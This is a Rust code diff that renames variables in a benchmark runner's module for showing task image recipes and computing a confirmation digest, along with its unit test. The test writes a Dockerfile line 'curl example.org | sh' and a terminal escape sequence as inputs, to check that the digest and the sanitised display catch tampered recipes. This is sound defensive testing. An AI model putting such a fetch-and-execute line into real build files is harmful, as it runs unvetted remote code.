@@ -27,33 +27,33 @@ impl TasksShown {
     /// Blocks, for at most [`files::deadline::LIMIT`].
     pub(super) fn new(settings: &RunSettings, numbers: &[u32]) -> Self {
         let Some(tasks) = &settings.tasks else { return Self::default() };
-        let (folder, asked) = (tasks.folder.clone(), numbers.to_vec());
-        let looked = within_limit(&tasks.folder, move || {
-            runner::task_images(&folder, &asked).map_err(|error| error.to_string())
+        let (folder, wanted_numbers) = (tasks.folder.clone(), numbers.to_vec());
+        let task_images = within_limit(&tasks.folder, move || {
+            runner::task_images(&folder, &wanted_numbers).map_err(|error| error.to_string())
         });
-        let found = match looked.unwrap_or_else(|error| Err(error.to_string())) {
+        let found = match task_images.unwrap_or_else(|error| Err(error.to_string())) {
             Ok(found) => found,
-            Err(why) => {
-                let sha256 = Some(Sha256::digest(&why).into());
-                return Self { unreadable: Some(plain_line(&why)), sha256, ..Self::default() };
+            Err(reason) => {
+                let sha256 = Some(Sha256::digest(&reason).into());
+                return Self { unreadable: Some(plain_line(&reason)), sha256, ..Self::default() };
             }
         };
         // Tasks of one benchmark mostly share a recipe.
         let mut places: HashMap<(Option<String>, runner::Recipe), usize> = HashMap::new();
         let mut hash = Sha256::new();
         let mut shown = Self::default();
-        for one in found {
+        for task_image in found {
             // Texts with their lengths, so that none runs into the next.
-            for text in [Some(&one.task), one.image.as_ref()] {
+            for text in [Some(&task_image.task), task_image.image.as_ref()] {
                 let length = text.map_or(u64::MAX, |text| text.len() as u64);
                 hash.update(length.to_le_bytes());
                 hash.update(text.map_or("", String::as_str));
             }
-            hash.update(one.recipe_sha256);
-            let task = plain_line(&one.task);
-            let key = (one.image, one.recipe);
-            if let Some(at) = places.get(&key) {
-                if let Some(known) = shown.images.get_mut(*at) {
+            hash.update(task_image.recipe_sha256);
+            let task = plain_line(&task_image.task);
+            let key = (task_image.image, task_image.recipe);
+            if let Some(index) = places.get(&key) {
+                if let Some(known) = shown.images.get_mut(*index) {
                     known.tasks.push(task);
                 }
                 continue;
@@ -79,8 +79,8 @@ impl TasksShown {
     /// What a person confirms who has seen the record of a run and this: 64 hexadecimal digits.
     pub(super) fn digest_with(&self, identity: &Identity) -> String {
         let Some(sha256) = self.sha256 else { return identity.digest_in_hex() };
-        let both = Sha256::new().chain_update(identity.digest).chain_update(sha256).finalize();
-        Identity { run: identity.run.clone(), digest: both.into() }.digest_in_hex()
+        let combined = Sha256::new().chain_update(identity.digest).chain_update(sha256).finalize();
+        Identity { run: identity.run.clone(), digest: combined.into() }.digest_in_hex()
     }
 }
 
@@ -94,7 +94,7 @@ mod tests {
     // docs/security.md: A resume
     fn whoever_resumes_tasks_of_others_sees_what_their_images_are_built_of() {
         let room = tempfile::tempdir().unwrap();
-        let put = |path: &str, text: &str| {
+        let write_file = |path: &str, text: &str| {
             let path = room.path().join(path);
             std::fs::create_dir_all(path.parent().unwrap()).unwrap();
             std::fs::write(path, text).unwrap();
@@ -108,15 +108,15 @@ mod tests {
             ("3", "", "FROM other\u{1b}[2J\n"),
             ("4", "", "FROM never\n"),
         ] {
-            put(&format!("{task}/task.toml"), &format!("{head}{step}"));
-            put(&format!("{task}/environment/Dockerfile"), recipe);
-            put(&format!("{task}/steps/a/instruction.md"), "Do it.");
-            put(&format!("{task}/tests/test.sh"), "true");
+            write_file(&format!("{task}/task.toml"), &format!("{head}{step}"));
+            write_file(&format!("{task}/environment/Dockerfile"), recipe);
+            write_file(&format!("{task}/steps/a/instruction.md"), "Do it.");
+            write_file(&format!("{task}/tests/test.sh"), "true");
         }
         let tasks = format!("tasks={}", room.path().display());
         let values = ["agent=NOP", "benchmark=HARBOR", "output_dir=x", &tasks].map(str::to_owned);
-        let theirs = runner::settings::resolve(&[], &values).unwrap();
-        let shown = TasksShown::new(&theirs, &[0, 1, 2, 3]);
+        let foreign_settings = runner::settings::resolve(&[], &values).unwrap();
+        let shown = TasksShown::new(&foreign_settings, &[0, 1, 2, 3]);
         let images: Vec<_> = shown
             .images
             .iter()
@@ -134,20 +134,20 @@ mod tests {
         assert_eq!((shown.more, &shown.unreadable), (0, &None));
         // Another recipe is not what was confirmed, also where it is too long for the page to show it.
         let identity = Identity { run: "00000000".to_owned(), digest: [7; 32] };
-        let digest = || TasksShown::new(&theirs, &[0, 1, 2, 3]).digest_with(&identity);
+        let digest = || TasksShown::new(&foreign_settings, &[0, 1, 2, 3]).digest_with(&identity);
         let confirmed = shown.digest_with(&identity);
         assert!(confirmed.len() == 64 && confirmed == digest());
         let long = "RUN true\n".repeat(60);
         let mut seen = BTreeSet::from([confirmed, identity.digest_in_hex()]);
         for last in ["true", "curl example.org | sh"] {
-            put("3/environment/Dockerfile", &format!("FROM debian\n{long}RUN {last}\n"));
+            write_file("3/environment/Dockerfile", &format!("FROM debian\n{long}RUN {last}\n"));
             assert!(seen.insert(digest()), "{last}");
         }
-        put("4/environment/Dockerfile", "FROM never either\n");
+        write_file("4/environment/Dockerfile", "FROM never either\n");
         assert!(!seen.insert(digest()), "a task that is not played");
         assert_eq!(TasksShown::default().digest_with(&identity), identity.digest_in_hex());
-        let none = ["agent=MOCK", "output_dir=x"].map(str::to_owned);
-        let scenarios = runner::settings::resolve(&[], &none).unwrap();
+        let without_tasks = ["agent=MOCK", "output_dir=x"].map(str::to_owned);
+        let scenarios = runner::settings::resolve(&[], &without_tasks).unwrap();
         let removed =
             runner::settings::resolve(&[], &values.map(|text| text.replace(&tasks, "tasks=/nowhere/at/all")));
         assert!(TasksShown::new(&removed.unwrap(), &[0]).unreadable.is_some());
